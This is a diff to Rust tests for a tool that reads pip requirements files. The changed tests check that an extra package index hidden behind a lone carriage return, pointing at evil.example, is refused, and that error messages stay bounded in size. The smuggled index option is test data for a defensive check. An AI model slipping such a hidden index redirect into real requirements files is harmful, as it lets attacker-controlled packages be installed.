@@ -231,14 +231,23 @@ fn a_hidden_index_url_is_carried_into_the_ir_as_pip_reads_it() {
         ir["python"]["index_url"], "https://evil.example/simple",
         "{ir}"
     );
-    // A lone CR ends a line for pip (str.splitlines).
-    let (code, ir, err) = ir_with_requirements(
+    // A lone CR ends a line for pip (str.splitlines), so a reader sees a
+    // comment where pip reads an option: the file is refused (E0010).
+    let (code, _, err) = ir_with_requirements(
         "numpy==1.26.4 # note \r--extra-index-url https://evil.example/simple",
     );
+    assert_eq!(code, Some(1), "{err}");
+    assert!(
+        err.contains("requirements.txt line 1: invisible character U+000D (CARRIAGE RETURN)"),
+        "{err}"
+    );
+    // A CRLF file is fine, and read as pip reads it.
+    let (code, ir, err) =
+        ir_with_requirements("numpy==1.26.4\r\n--extra-index-url https://extra.example/simple\r\n");
     assert_eq!(code, Some(0), "{err}");
     let ir: serde_json::Value = serde_json::from_str(&ir).unwrap();
     assert_eq!(
-        ir["python"]["extra_index_urls"][0], "https://evil.example/simple",
+        ir["python"]["extra_index_urls"][0], "https://extra.example/simple",
         "{ir}"
     );
     // `-i=URL` is the value `=URL` for pip, which is not a URL.
@@ -252,7 +261,7 @@ fn a_hidden_index_url_is_carried_into_the_ir_as_pip_reads_it() {
 fn a_diagnostic_quotes_at_most_a_bounded_part_of_a_value() {
     // round 2, M7: a line of 1 MB of NULs in a requirements file was quoted
     // whole (8 MB of `\0`); so was any value in a validator's message.
-    let (code, _, err) = ir_with_requirements(&"\0".repeat(1 << 20));
+    let (code, _, err) = ir_with_requirements(&format!("a{}!", "x".repeat(1 << 20)));
     assert_eq!(code, Some(1), "{err}");
     assert!(err.contains("bytes in all"), "{err}");
     assert!(err.len() < 4000, "{} bytes of diagnostics", err.len());
